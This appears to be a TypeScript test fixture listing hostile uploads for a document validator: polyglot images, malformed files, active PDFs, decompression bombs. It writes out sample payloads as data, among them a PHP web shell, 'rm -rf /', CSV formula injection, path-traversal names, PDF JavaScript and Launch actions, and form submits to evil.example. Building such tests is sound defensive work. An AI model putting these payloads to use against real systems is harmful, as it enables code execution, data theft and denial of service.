/** Files that a borrower could send to do harm, or by mistake, each with what has to become of it. */
import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import type { DocumentFault } from '#contract/documents.ts'
import { aHeic, aJpeg, aPdf, aPng, aWebp, pngChunk } from './some-documents.ts'
import { aPdfOf, aPdfOfStreams, aStream, onePage, type PdfObjects } from './some-pdfs.ts'

export type HostileFile = {
  readonly what: string
  readonly name: string
  readonly bytes: Buffer
  /** `harmless`: accepted, since what is stored is made anew and has nothing of `poison` in it. */
  readonly becomes: DocumentFault | 'harmless'
  readonly poison?: string
}

const text = (content: string) => Buffer.from(content, 'latin1')
const page = '<!doctype html><script>alert(document.domain)</script>'
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
const archive = 'PK\x03\x04\x14\x00\x00\x00[Content_Types].xml'
const script = '<?php system($_GET["c"]); ?>'
const unknown = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, bytes, becomes: 'unknown' })

const ofOtherKinds: readonly HostileFile[] = [
  unknown('an HTML page named .pdf', 'statement.pdf', text(page)),
  unknown('an HTML page named .jpg', 'house.jpg', text(page)),
  unknown('an SVG drawing', 'logo.svg', text(drawing)),
  unknown('an SVG drawing named .png', 'logo.png', text(drawing)),
  unknown('an SVG drawing after an XML declaration', 'x.webp', text(`<?xml version="1.0"?>${drawing}`)),
  unknown('a GIF', 'cat.gif', text('GIF89a\x01\x00\x01\x00\x00\x00\x00;')),
  unknown('a TIFF', 'scan.tif', text('II*\x00\x08\x00\x00\x00\x00\x00\x00\x00')),
  unknown('a BMP', 'scan.bmp', text('BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00')),
  unknown('a Windows program', 'paystub.exe', text('MZ\x90\x00\x03\x00\x00\x00PE\x00\x00')),
  unknown('a Windows program with two extensions', 'paystub.pdf.exe', text('MZ\x90\x00\x03\x00\x00\x00PE\x00\x00')),
  unknown('a Linux program', 'paystub', text('\x7fELF\x02\x01\x01\x00')),
  unknown('a program whose name reads backwards', 'stub\u202egnp.exe', text('MZ\x90\x00\x03\x00\x00\x00')),
  unknown('a Word document', 'trust.docx', text(archive)),
  unknown('a Word document named .pdf', 'trust.pdf', text(archive)),
  unknown('an old Word document', 'trust.doc', text('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')),
  unknown('a ZIP archive whose name is a path', '../../etc/cron.d/x.zip', text(archive)),
  unknown('a shell script', 'C:\\temp\\run.sh', text('#!/bin/sh\nrm -rf /\n')),
  unknown('a web shell named .jpg', 'shell.php.jpg', text(script)),
  unknown('a text file', 'notes.txt', text('to do')),
  unknown('a CSV table', 'income.csv', text('=cmd|calc!A0,1')),
  unknown('a JSON file', 'data.json', text('{"a":1}')),
  unknown('a video in the container of HEIC', 'walk.mp4', text('\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2')),
  unknown('an AVIF picture, a neighbour of HEIC', 'a.avif', text('\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf')),
  unknown('one byte', 'one.jpg', text('\xff')),
  unknown('a PDF far behind a page', 'a.pdf', Buffer.concat([text(page), Buffer.alloc(2_000, 10), aPdf()])),
  unknown('PostScript', 'a.pdf', text('%!PS-Adobe-3.0\nshowpage\n')),
  { what: 'an empty JPEG', name: 'empty.jpg', bytes: Buffer.alloc(0), becomes: 'empty' },
  { what: 'an empty PDF', name: 'empty.pdf', bytes: Buffer.alloc(0), becomes: 'empty' },
]

const damaged = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, bytes, becomes: 'damaged' })
const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length * 0.6))
const badCheck = (png: Buffer) => {
  const copy = Buffer.from(png)
  const at = copy.indexOf('IDAT') + 6
  copy[at] = (copy[at] ?? 0) ^ 0xff
  return copy
}
const jpegOf = (width: number, height: number) => {
  const copy = Buffer.from(aJpeg())
  const frame =
    copy.indexOf(Buffer.from([0xff, 0xc0])) < 0
      ? copy.indexOf(Buffer.from([0xff, 0xc2]))
      : copy.indexOf(Buffer.from([0xff, 0xc0]))
  copy.writeUInt16BE(height, frame + 5)
  copy.writeUInt16BE(width, frame + 7)
  return copy
}

const pictures: readonly HostileFile[] = [
  damaged('a truncated JPEG', 'cut.jpg', half(aJpeg())),
  damaged('a truncated PNG', 'cut.png', half(aPng())),
  damaged('a truncated WebP', 'cut.webp', half(aWebp())),
  damaged('a truncated HEIC', 'cut.heic', half(aHeic())),
  damaged('a JPEG of a header only', 'head.jpg', aJpeg().subarray(0, 20)),
  damaged('a PNG with garbage instead of pixels', 'garbage.png', aPng({ pixels: Buffer.alloc(500, 7) })),
  damaged('a PNG with a wrong checksum', 'crc.png', badCheck(aPng())),
  damaged('a PNG without pixels', 'none.png', aPng({ pixels: Buffer.alloc(0) })),
  damaged('a PNG with too few pixels', 'few.png', aPng({ pixels: deflateSync(Buffer.alloc(1_000)) })),
  damaged(
    'a HEIC of empty boxes',
    'boxes.heic',
    text('\x00\x00\x00\x14ftypheic\x00\x00\x00\x00heic\x00\x00\x00\x08meta\x00\x00\x00\x08mdat'),
  ),
  damaged('a WebP of a header only', 'head.webp', text('RIFF\x1a\x00\x00\x00WEBPVP8 ')),
  damaged('a page that begins like a JPEG', 'a.jpg', Buffer.concat([text('\xff\xd8\xff'), text(page)])),
  {
    what: 'a PNG of 30,000 × 30,000 pixels',
    name: 'bomb.png',
    bytes: aPng({ width: 30_000, height: 30_000, pixels: deflateSync(Buffer.alloc(90_000)) }),
    becomes: 'too-many-pixels',
  },
  { what: 'a JPEG of 65,000 × 65,000 pixels', name: 'bomb.jpg', bytes: jpegOf(65_000, 65_000), becomes: 'too-many-pixels' },
  { what: 'a PNG of one pixel', name: 'dot.png', bytes: aPng({ width: 1, height: 1 }), becomes: 'too-small' },
  { what: 'a PNG of a strip', name: 'strip.png', bytes: aPng({ width: 4_000, height: 2 }), becomes: 'too-small' },
]

const polyglots: readonly HostileFile[] = [
  {
    what: 'a JPEG with a ZIP archive behind it',
    name: 'a.jpg',
    bytes: aJpeg({ trailing: text(archive) }),
    becomes: 'harmless',
    poison: '[Content_Types]',
  },
  {
    what: 'a JPEG with a page behind it',
    name: 'a.jpg',
    bytes: aJpeg({ trailing: text(page) }),
    becomes: 'harmless',
    poison: 'alert',
  },
  {
    what: 'a JPEG with a script in a comment',
    name: 'a.jpg',
    bytes: withComment(aJpeg(), script),
    becomes: 'harmless',
    poison: 'system',
  },
  {
    what: 'a PNG with a script in a text chunk',
    name: 'a.png',
    bytes: withTextChunk(aPng(), script),
    becomes: 'harmless',
    poison: 'system',
  },
  {
    what: 'a PNG with a ZIP archive behind it',
    name: 'a.png',
    bytes: Buffer.concat([aPng(), text(archive)]),
    becomes: 'harmless',
    poison: '[Content_Types]',
  },
  {
    what: 'a WebP with a page behind it',
    name: 'a.webp',
    bytes: Buffer.concat([aWebp(), text(page)]),
    becomes: 'harmless',
    poison: 'alert',
  },
  {
    what: 'a HEIC with a program behind it',
    name: 'a.heic',
    bytes: Buffer.concat([aHeic(), text('\x00\x00\x00\x18freeMZ\x90\x00evil program')]),
    becomes: 'harmless',
    poison: 'evil',
  },
  {
    what: 'a PDF with a page between its objects',
    name: 'a.pdf',
    bytes: aPdfOf(onePage, { between: `${page}\n` }),
    becomes: 'harmless',
    poison: 'alert',
  },
  {
    what: 'a PDF after a page',
    name: 'a.pdf',
    bytes: Buffer.concat([text(page), aPdf()]),
    becomes: 'harmless',
    poison: 'alert',
  },
  {
    what: 'a PDF with a program behind it',
    name: 'a.pdf',
    bytes: Buffer.concat([aPdf(), text('MZ\x90\x00evil program')]),
    becomes: 'harmless',
    poison: 'evil',
  },
  {
    what: 'a PDF with an unused JavaScript object',
    name: 'a.pdf',
    bytes: aPdf({ objects: { 9: '<< /S /JavaScript /JS (app.alert(1)) >>' } }),
    becomes: 'harmless',
    poison: 'alert',
  },
]

function withComment(jpeg: Buffer, comment: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2])
  return Buffer.concat([jpeg.subarray(0, 2), head, text(comment), jpeg.subarray(2)])
}

function withTextChunk(png: Buffer, content: string): Buffer {
  return Buffer.concat([png.subarray(0, 33), pngChunk('tEXt', text(`Comment\0${content}`)), png.subarray(33)])
}

const catalog = (entries: string, more: PdfObjects = {}) => ({ ...more, 1: `<< /Type /Catalog /Pages 2 0 R ${entries} >>` })
const pageWith = (entries: string, more: PdfObjects = {}) => ({
  ...more,
  3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ${entries} >>`,
})
const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
const drawnForm = aStream('1 0 0 rg 0 0 9 9 re f', { entries: '/Type /XObject /Subtype /Form /BBox [0 0 9 9]' })
const annotation = (entries: string) => pageWith(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]`)
const pdf = (
  what: string,
  objects: PdfObjects,
  becomes: HostileFile['becomes'],
  poison?: string,
  write = aPdfOf,
): HostileFile => ({
  ...{ what, name: 'active.pdf', becomes, poison },
  bytes: write({ ...onePage, ...objects }),
})
/** @param poison what acts, as the file has it */
const active = (what: string, objects: PdfObjects, poison = 'app.alert', write = aPdfOf) =>
  pdf(what, objects, 'harmless', poison, write)
const program = '/S /Launch /F (cmd.exe)'
const form = (entries: string) =>
  catalog(`/AcroForm << /Fields [9 0 R] ${entries} >>`, {
    9: `<< /T (Total) /FT /Tx /AA << /C ${js} /K ${js} >> >>`,
  })

const activePdfs: readonly HostileFile[] = [
  active('a PDF with JavaScript at opening', catalog(`/OpenAction ${js}`)),
  active('a PDF with JavaScript in a packed object stream', catalog('/OpenAction 9 0 R', { 9: js }), '/ObjStm', (objects) =>
    aPdfOfStreams(objects),
  ),
  active('a PDF with JavaScript in a plain object stream', catalog('/OpenAction 9 0 R', { 9: js }), 'app.alert', (objects) =>
    aPdfOfStreams(objects, { isPacked: false }),
  ),
  active('a PDF with JavaScript whose names end with NUL', catalog('/OpenAction << /S\0/JavaScript\0/JS\0(app.alert(1)) >>')),
  active('a PDF with JavaScript behind a comment with the word stream', catalog(`% >>stream\n/OpenAction ${js}\n%endstream\n`)),
  active(
    'a PDF with JavaScript behind a string with the word stream',
    catalog(`/X (>>stream\n) /OpenAction ${js} /Y (endstream)`),
  ),
  active('a PDF with JavaScript in escaped letters', catalog('/OpenAction << /S /J#61vaScript /#4A#53 (app.alert(1)) >>')),
  active('a PDF with named JavaScript', catalog('/Names << /JavaScript << /Names [(a) 9 0 R] >> >>', { 9: js })),
  active('a PDF with JavaScript at a page', pageWith(`/AA << /O ${js} >>`)),
  active('a PDF with JavaScript after a harmless action', catalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${js} >>`)),
  active(
    'a PDF with JavaScript after the press of a link',
    annotation(`/Subtype /Link /A << /S /URI /URI (https://bank.example) /Next [${js}] >>`),
  ),
  active('a PDF with JavaScript in a newer revision', catalog('/OpenAction 9 0 R', { 9: js }), 'app.alert', revised),
  active('a PDF with a form that formats and adds', form('')),
  active(
    'a PDF with JavaScript in an outline',
    catalog('/Outlines << /First 9 0 R /Last 9 0 R /Count 1 >>', { 9: `<< /Title (x) /A ${js} >>` }),
  ),
  active('a PDF with JavaScript in a dictionary of its own', catalog(`/Extension << /Code ${js} >>`)),
  active(
    'a PDF with JavaScript in one that is font and action',
    catalog('/OpenAction 9 0 R', {
      ...pageWith('/Resources << /Font 9 0 R >>'),
      9: js,
    }),
  ),
  active('a PDF with JavaScript as an address', annotation('/Subtype /Link /A << /S /URI /URI (JavaScript:app.alert\\(1\\)) >>')),
  active(
    'a PDF with a link to a file of a server',
    annotation('/Subtype /Link /A << /S /URI /URI (file:////evil/share) >>'),
    'evil',
  ),
  active('a PDF with addresses that begin with a script', catalog('/URI << /Base (javascript:app.alert) >>')),
  active('a PDF that prints itself', catalog('/OpenAction << /S /Named /N /Print >>'), '/Print'),
  active('a PDF that prints at an event', pageWith('/AA << /O << /S /Named /N /Print >> >>'), '/Print'),
  active('a PDF that starts a program', catalog(`/OpenAction << ${program} >>`), 'cmd.exe'),
  active('a PDF that starts a program from a link', annotation(`/Subtype /Link /A << ${program} >>`), 'cmd.exe'),
  active('a PDF that opens an address by itself', catalog('/AA << /DC << /S /URI /URI (http://evil.example) >> >>'), 'evil'),
  active('a PDF that sends a form', annotation('/Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >>'), 'evil'),
  active(
    'a PDF that opens a file of a server',
    annotation('/Subtype /Link /A << /S /GoToR /F (\\\\evil\\share) /D [0 /Fit] >>'),
    'evil',
  ),
  active('a PDF that opens an embedded file', annotation('/Subtype /Link /A << /S /GoToE /D [0 /Fit] >>'), '/GoToE'),
  active('a PDF that imports data', annotation('/Subtype /Link /A << /S /ImportData /F (x.fdf) >>'), 'x.fdf'),
  active('a PDF that plays a rendition', annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>'), '/Rendition'),
  active('a PDF with an XFA form beside its fields', form('/XFA 10 0 R'), '/XFA'),
  active(
    'a PDF with an embedded file',
    catalog('/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>', {
      9: '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
      10: aStream('MZ', { entries: '/Type /EmbeddedFile' }),
    }),
    'a.exe',
  ),
  active('a PDF with an attached file', annotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>'), 'a.exe'),
  active(
    'a PDF with an attached file that is drawn',
    { ...annotation('/Subtype /FileAttachment /AP << /N 9 0 R >> /FS << /Type /Filespec /F (a.exe) >>'), 9: drawnForm },
    'a.exe',
  ),
  active('a PDF with a film', annotation('/Subtype /RichMedia'), '/RichMedia'),
  active(
    'a PDF with a program for printers',
    pageWith('/Resources << /XObject << /P 9 0 R >> >>', {
      9: aStream('(%pipe%id) run', { entries: '/Type /XObject /Subtype /PS' }),
    }),
    '%pipe',
  ),
  pdf('a PDF whose page is in another file', { 4: aStream('q Q', { entries: '/F (\\\\evil\\share)' }) }, 'active'),
  pdf('a PDF with an XFA form alone', catalog('/AcroForm << /Fields [] /XFA 9 0 R >>', { 9: aStream('<xdp:xdp/>') }), 'changed'),
  pdf('a PDF with an XFA form that draws its own pages', catalog('/NeedsRendering true'), 'changed'),
  pdf('a PDF that is a portfolio of files', catalog('/Collection << /Type /Collection >>'), 'changed'),
]

/** The file without its action, and a revision behind it that adds it. */
function revised(objects: PdfObjects): Buffer {
  const first = aPdfOf(onePage)
  const before = Number(/startxref\n(\d+)/.exec(first.toString('latin1'))?.[1])
  const parts = [first]
  const offsets = [1, 9].map((number) => {
    const at = parts.reduce((sum, part) => sum + part.length, 0)
    parts.push(text(`${number} 0 obj\n${objects[number]}\nendobj\n`))
    return `${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`
  })
  const at = parts.reduce((sum, part) => sum + part.length, 0)
  parts.push(text(`xref\n${offsets.join('')}trailer\n<< /Size 10 /Root 1 0 R /Prev ${before} >>\nstartxref\n${at}\n%%EOF\n`))
  return Buffer.concat(parts)
}

const manyPages = (count: number): PdfObjects => {
  const numbers = Array.from({ length: count }, (_, index) => index + 10)
  const kids = numbers.map((number) => `${number} 0 R`).join(' ')
  return {
    ...onePage,
    ...Object.fromEntries(numbers.map((number) => [number, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>'])),
    2: `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
  }
}
const standardEncryption = `/Encrypt << /Filter /Standard /V 1 /R 2 /O (${'a'.repeat(32)}) /U (${'b'.repeat(32)}) /P -4 >> /ID [(a) (b)]`

const otherPdfs: readonly HostileFile[] = [
  { what: 'an encrypted PDF', name: 'secret.pdf', bytes: aPdfOf(onePage, { trailer: standardEncryption }), becomes: 'encrypted' },
  { what: 'a PDF of 201 pages', name: 'long.pdf', bytes: aPdfOf(manyPages(201)), becomes: 'too-many-pages' },
  { what: 'a PDF of 10,000 pages', name: 'long.pdf', bytes: aPdfOf(manyPages(10_000)), becomes: 'too-many-pages' },
  {
    what: 'a PDF that names one page 5,000 times',
    name: 'loop.pdf',
    bytes: aPdf({ objects: { 2: `<< /Type /Pages /Kids [${'3 0 R '.repeat(5_000)}] /Count 5000 >>` } }),
    becomes: 'too-many-pages',
  },
  damaged('a truncated PDF', 'cut.pdf', half(aPdf({ stream: 'q Q '.repeat(500) }))),
  damaged('a PDF without pages', 'none.pdf', aPdf({ objects: { 2: '<< /Type /Pages /Kids [] /Count 0 >>' } })),
  damaged(
    'a PDF whose pages are in a circle',
    'circle.pdf',
    aPdf({ objects: { 2: '<< /Type /Pages /Kids [2 0 R] /Count 9 >>' } }),
  ),
  damaged('a PDF without a page tree', 'none.pdf', aPdf({ objects: { 1: '<< /Type /Catalog >>' } })),
  damaged('a PDF of a header and an end', 'head.pdf', text('%PDF-1.7\n%%EOF\n')),
  {
    what: 'a PDF whose cross-reference tables are in a circle',
    name: 'xref.pdf',
    bytes: circular(),
    becomes: 'harmless',
    poison: '/Prev',
  },
  {
    what: 'a PDF with a picture of 30,000 × 30,000 pixels',
    name: 'bomb.pdf',
    bytes: aPdf({
      objects: pageWith('/Resources << /XObject << /I 9 0 R >> >>', {
        9: aStream('', { entries: '/Subtype /Image /Width 30000 /Height 30000' }),
      }),
    }),
    becomes: 'too-complex',
  },
]

function circular(): Buffer {
  const file = aPdfOf(onePage, { trailer: '/Prev 0000000' }).toString('latin1')
  const at = /startxref\n(\d+)/.exec(file)?.[1] ?? ''
  return text(file.replace('/Prev 0000000', `/Prev ${at.padStart(7, '0')}`))
}

export const hostileFiles: readonly HostileFile[] = [...ofOtherKinds, ...pictures, ...polyglots, ...activePdfs, ...otherPdfs]

/** Files that would take too much time or memory, for the limits of a process. */
export function bombs(): readonly HostileFile[] {
  const packed = packedZeros(900)
  const page = (stream: Buffer) => aPdf({ objects: { 4: stream } })
  const twice = aStream(deflateSync(packed), { entries: '/Filter [/FlateDecode /FlateDecode]' })
  const becomes = 'too-complex'
  return [
    {
      what: 'a PDF with a page that unpacks to 900 MB',
      name: 'bomb.pdf',
      bytes: page(aStream(packed, { entries: '/Filter /FlateDecode' })),
      becomes,
    },
    { what: 'a PDF with a page that is packed twice', name: 'bomb.pdf', bytes: page(twice), becomes },
    {
      what: 'a PDF with a page that is packed, and written in digits',
      name: 'bomb.pdf',
      bytes: page(aStream(`${packed.toString('hex')}>`, { entries: '/Filter [/ASCIIHexDecode /FlateDecode]' })),
      becomes,
    },
    {
      what: 'a PDF with a page packed by run lengths, and again',
      name: 'bomb.pdf',
      bytes: page(aStream(deflateSync(Buffer.alloc(20e6, Buffer.from([129, 32]))), { entries: '/Filter [/Fl /RL]' })),
      becomes,
    },
    {
      what: 'a PDF with an object stream that unpacks to 300 MB',
      name: 'bomb.pdf',
      bytes: aPdfOfStreams({ ...onePage, 9: `(${' '.repeat(300e6)})` }),
      becomes,
    },
  ]
}

/** Like `deflateSync` of so many MB of zeros, in a thousandth of its time: one packed MB is repeated. */
function packedZeros(megabytes: number): Buffer {
  const head = Buffer.from([0x78, 0x9c])
  const megabyte = deflateRawSync(Buffer.alloc(1e6), { finishFlush: constants.Z_FULL_FLUSH })
  const checksum = Buffer.from([0, 0, 0, 1])
  checksum.writeUInt16BE((megabytes * 1e6) % 65_521)
  return Buffer.concat([head, ...Array.from({ length: megabytes }, () => megabyte), deflateRawSync(''), checksum])
}
